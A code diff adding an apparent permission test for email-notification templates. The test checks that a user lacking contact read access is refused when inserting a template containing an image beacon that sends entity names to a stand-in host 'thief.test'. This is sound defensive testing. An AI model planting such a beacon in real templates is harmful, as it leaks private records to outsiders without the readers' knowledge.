@@ -48,6 +48,28 @@ test('nobody has people told by mail or chat of what it may not read', async () 
   }
 });
 
+test('the words of a mail, too, are those of somebody who may read what they tell', async () => {
+  const words = (id: string, html: string) => ({ id, name: id, subject: '{{title}}', text: '{{message}}', html });
+  const decided = (scope: string, templateId: string) => ({ scope, toEmails: ['owner@herald.test'], templateId });
+  const rules = {
+    emailNotificationConfigs: [decided('CREATE.CONTACT', 'contacts'), decided('CREATE.OFFER', 'offers')],
+  };
+  const templates = [words('contacts', '<p>{{message}}</p>'), words('offers', '<p>{{message}}</p>')];
+  assert.equal((await configure(organization.owner, { ...rules, templates })).status, 200);
+  // Whoever opens such a mail tells the server of the picture what it says.
+  const beacon = '<img src="https://thief.test/?{{entityName}}">';
+  const [contacts, offers] = templates as [object, object];
+  const refused = await configure(herald, { templates: [words('contacts', beacon), offers] });
+  assert.equal(refused.status, 403, refused.text);
+  assert.match(refused.text, /contact:read/);
+  const own = await configure(herald, { templates: [contacts, words('offers', beacon), words('unused', beacon)] });
+  assert.equal(own.status, 200, own.text);
+  assert.equal(
+    (await configure(organization.owner, { templates: [words('contacts', beacon)], ...mails() })).status,
+    200,
+  );
+});
+
 test('what others have decided stays, and may be taken away, but not sent elsewhere', async () => {
   const slack = { enabled: true, webhookUrl: 'https://hooks.slack.com/services/T0/B0/x1', scopes: ['CREATE.CONTACT'] };
   assert.equal((await configure(organization.owner, { ...mails('CREATE.CONTACT'), slack })).status, 200);
